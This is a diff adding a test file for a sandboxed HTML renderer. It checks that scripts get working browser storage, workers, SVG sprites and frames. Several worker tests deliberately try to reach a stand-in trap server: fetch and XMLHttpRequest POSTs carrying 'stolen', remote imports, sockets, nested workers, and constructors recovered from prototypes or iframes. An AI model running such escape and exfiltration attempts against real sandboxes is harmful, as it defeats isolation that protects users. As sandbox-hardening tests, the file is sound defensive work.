@@ -1,0 +1,196 @@
+/** What scripts and drawings find here as in a browser, though their document stands in a sandbox. */
+import { beforeAll, describe, expect, inject, it } from 'vitest'
+import { trapped } from '../../support/outgoing'
+import { applySchema } from '../../support/schema'
+import { render } from '../../support/service'
+
+const { site, trap } = inject('origins')
+const at = { base_url: `${site}/` }
+
+beforeAll(() => applySchema())
+
+/** What a script says by `say(text)`; the document has no warnings. */
+async function said(script: string): Promise<string> {
+  const html = `<p id="p">said nothing</p><script>const say = (text) => { p.textContent = 'said ' + text }
+    ;(async () => { ${script} })().catch((error) => say(error))</script>`
+  const { text, headers } = await render(html, { options: at })
+  expect(headers.get('x-warnings')).toBeNull()
+  return text
+    .trim()
+    .replace(/^said /, '')
+    .replace(/\s+/g, ' ')
+}
+
+describe('scripts find', () => {
+  it.each(['localStorage', 'sessionStorage'])('an empty %s that keeps what is put into it', async (name) => {
+    const script = `const s = ${name}, before = s.length
+      s.setItem('a', 1); s.b = 2; s['c d'] = null; delete s.b; Storage.prototype.setItem.call(s, 'e', 'f')
+      let full = ''; try { s.setItem('large', 'x'.repeat(6e6)) } catch (error) { full = error.name }
+      say([before, s.length, s.a, s.b, s.getItem('nothing'), 'a' in s, Object.keys(s), JSON.stringify(s), s.key(0), full, s instanceof Storage])`
+    expect(await said(script)).toBe(
+      '0,3,1,,,true,a,c d,e,{"a":"1","c d":"null","e":"f"},a,QuotaExceededError,true',
+    )
+  })
+
+  it('cookies', async () => {
+    const script = `const before = document.cookie; document.cookie = 'a=b; path=/; secure'; document.cookie = 'c=d=e'
+      document.cookie = 'gone=1'; document.cookie = 'gone=; max-age=0'; document.cookie = 'past=1; expires=Thu, 01 Jan 1970 00:00:00 GMT'
+      say(before + '|' + document.cookie)`
+    expect(await said(script)).toBe('|a=b; c=d=e')
+  })
+
+  it('a history, and no worker of the service that would throw', async () => {
+    const script = `history.replaceState({ page: 1 }, '', '?page=1'); history.pushState({ page: 2 }, '', '/other')
+      say([history.state.page, location.pathname, 'serviceWorker' in navigator, 'caches' in window])`
+    expect(await said(script)).toBe('2,/other,false,false')
+  })
+})
+
+describe('scripts find an IndexedDB', () => {
+  const open = `const ask = (request) => new Promise((resolve, reject) => { request.onsuccess = () => resolve(request.result); request.onerror = () => reject(request.error) })
+    const opening = indexedDB.open('shop', 3)
+    opening.onupgradeneeded = ({ oldVersion, newVersion }) => {
+      const store = opening.result.createObjectStore('items', { keyPath: 'id', autoIncrement: true })
+      store.createIndex('name', 'name', { unique: true }); store.createIndex('tags', 'tags', { multiEntry: true }); store.add({ name: 'first', from: oldVersion, to: newVersion }) }
+    const db = await ask(opening)
+    const items = (mode) => db.transaction('items', mode).objectStore('items');`
+
+  it('that begins empty and keeps records in the order of their keys', async () => {
+    const script = `${open} const store = items('readwrite')
+      await Promise.all([store.add({ name: 'z', tags: ['x'] }), store.put({ id: 20, name: 'm', tags: ['x', 'y'] }), store.add({ name: 'a' })].map(ask))
+      await ask(store.delete(2))
+      say(JSON.stringify([await ask(items().getAll()), await ask(items().getAllKeys(IDBKeyRange.bound(1, 20, true))), await ask(items().index('tags').count('y')), db.version, [...db.objectStoreNames]]))`
+    expect(await said(script)).toBe(
+      '[[{"name":"first","from":0,"to":3,"id":1},{"id":20,"name":"m","tags":["x","y"]},{"name":"a","id":21}],[20],1,3,["items"]]',
+    )
+  })
+
+  it('whose cursors go either way, change and delete', async () => {
+    const script = `${open} for (const name of ['b', 'c', 'd']) await ask(items('readwrite').add({ name }))
+      const seen = await new Promise((resolve) => { const names = []
+        items('readwrite').index('name').openCursor(IDBKeyRange.lowerBound('b'), 'prev').onsuccess = ({ target: { result } }) => {
+          if (!result) return resolve(names)
+          names.push(result.key); if (result.key === 'c') result.delete(); else if (result.key === 'b') result.update({ ...result.value, name: 'B' })
+          result.continue() } })
+      say([seen, (await ask(items().getAll())).map(({ name }) => name)])`
+    expect(await said(script)).toBe('first,d,c,b,first,B,d')
+  })
+
+  it('whose transactions keep all or nothing', async () => {
+    const script = `${open} const twice = items('readwrite'); twice.add({ name: 'new' }); const failed = ask(twice.add({ name: 'first' })).catch((error) => error.name)
+      const end = await new Promise((resolve) => { twice.transaction.onabort = () => resolve('aborted'); twice.transaction.oncomplete = () => resolve('complete') })
+      let closed; try { twice.get(1) } catch (error) { closed = error.name }
+      say([await failed, end, closed, await ask(items().count()), await ask(indexedDB.open('shop', 1)).catch((error) => error.name)])`
+    expect(await said(script)).toBe('ConstraintError,aborted,TransactionInactiveError,1,VersionError')
+  })
+})
+
+const looks = `['WebSocket', 'WebTransport', 'EventSource', 'Worker', 'BroadcastChannel'].filter((name) => name in self)`
+
+describe('a worker', () => {
+  it.each([
+    [
+      'of a blob',
+      `new Worker(URL.createObjectURL(new Blob(['onmessage = ({ data }) => postMessage(data + ${looks.replaceAll("'", '"')})'])))`,
+    ],
+    [
+      'of a data: address',
+      `new Worker('data:text/javascript,onmessage = ({ data }) => postMessage(data + ${looks.replaceAll("'", '"')})')`,
+    ],
+    [
+      'that is a module',
+      `new Worker(URL.createObjectURL(new Blob(['onmessage = ({ data }) => postMessage(data + ${looks.replaceAll("'", '"')})'], { type: 'text/javascript' })), { type: 'module' })`,
+    ],
+  ])('%s works, and has no way out', async (_, worker) => {
+    expect(
+      await said(
+        `const worker = ${worker}; worker.onmessage = ({ data }) => say(data); worker.postMessage('heard')`,
+      ),
+    ).toBe('heard')
+  })
+
+  it('of a file loads what it asks for, by the service', async () => {
+    const script = `const worker = new Worker('worker.js'); worker.onmessage = ({ data }) => say(data); worker.postMessage('more, ')`
+    expect(await said(script)).toBe('a part and more, fetched by a script')
+  })
+
+  it.each([
+    ['fetch', `fetch('${trap}/fetch', { method: 'POST', body: 'stolen' }).catch(() => {})`],
+    [
+      'XMLHttpRequest',
+      `const x = new XMLHttpRequest(); x.open('POST', '${trap}/xhr', false); try { x.send('stolen') } catch {}`,
+    ],
+    ['an import', `try { importScripts('${trap}/import.js') } catch {}`],
+    ['a module', `import('${trap}/module.js').catch(() => {})`],
+    [
+      'sockets',
+      `try { new WebSocket('${trap.replace('http', 'ws')}/socket') } catch {}; try { new WebTransport('https://${trap.slice(7)}/') } catch {}; try { new EventSource('${trap}/events') } catch {}`,
+    ],
+    [
+      'a worker of its own',
+      `try { new Worker(URL.createObjectURL(new Blob(['fetch("${trap}/nested")']))) } catch {}`,
+    ],
+    [
+      'the constructors of what it has',
+      `fetch(new (Object.getPrototypeOf(new Request('${trap}/')).constructor)('${trap}/request', { method: 'POST', body: 'x' })).catch(() => {})`,
+    ],
+  ])('reaches no server by %s', async (_, way) => {
+    const html = `<p>stays</p><script>const worker = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(`${way}; postMessage('done')`)}])))
+      worker.onmessage = () => document.body.append('tried')</script>`
+    const { text } = await render(html)
+    expect(text).toMatch(/stays\s*tried/)
+    expect(await trapped()).toEqual([])
+  })
+
+  it('is one of sixteen at the most', async () => {
+    const script = `let made = 0; try { for (;; made++) new Worker('data:text/javascript,postMessage(1)') } catch (error) { say(made + error.name) }`
+    expect(await said(script)).toBe('16QuotaExceededError')
+  })
+
+  it.each([
+    [
+      'a frame',
+      `const frame = document.createElement('iframe'); document.body.append(frame); new frame.contentWindow.Worker('data:text/javascript,')`,
+    ],
+    [
+      'its constructor',
+      `new (Object.getPrototypeOf(new Worker('data:text/javascript,')).constructor)(URL.createObjectURL(new Blob(['new WebSocket("${trap.replace('http', 'ws')}")'])))`,
+    ],
+  ])('without the lockdown is not to be had from %s', async (_, way) => {
+    const { text } = await render(`<p>stays</p><script>try { ${way} } catch {}</script>`)
+    expect(text).toContain('stays')
+    expect(await trapped()).toEqual([])
+  })
+})
+
+describe('a drawing that uses a symbol of another file', () => {
+  it.each([
+    ['in a document without scripts', ''],
+    ['in a document with scripts', '<script>document.body.append("by a script")</script>'],
+  ])('%s shows it, and nothing in that file runs', async (_, more) => {
+    const html = `<p>Icon</p><svg width="90" height="90"><use href="sprite.svg#star"/></svg>${more}`
+    const { text, headers, pages } = await render(html, { options: at })
+    expect(text).toContain('STAR')
+    expect(text).not.toContain('ran')
+    expect(pages).toHaveLength(1)
+    expect(headers.get('x-warnings')).toBeNull()
+  })
+
+  it('is a warning if the file does not load', async () => {
+    const html = '<p>Icon</p><svg width="90" height="90"><use xlink:href="missing.svg#star"/></svg>'
+    const { headers } = await render(html, { options: at })
+    expect(headers.get('x-warnings')).toMatch(/missing\.svg did not load/)
+  })
+
+  it('of the document itself is left as it is', async () => {
+    const html = `<svg width="0" height="0"><symbol id="own"><text y="20">OWN</text></symbol></svg><svg width="90" height="90"><use href="#own"/></svg>`
+    expect((await render(html)).text).toContain('OWN')
+  })
+})
+
+it('a frame with a document of its own text is printed, and one that a script writes into is a warning', async () => {
+  const own = await render('<p>Text</p><iframe srcdoc="<p>INSIDE</p>"></iframe>')
+  expect(own.text).toContain('INSIDE')
+  const html = `<p>Text</p><iframe id="frame"></iframe><script>frame.contentDocument.body.innerHTML = 'written'</script>`
+  expect((await render(html)).headers.get('x-warnings')).toMatch(/script error: .*null/)
+})
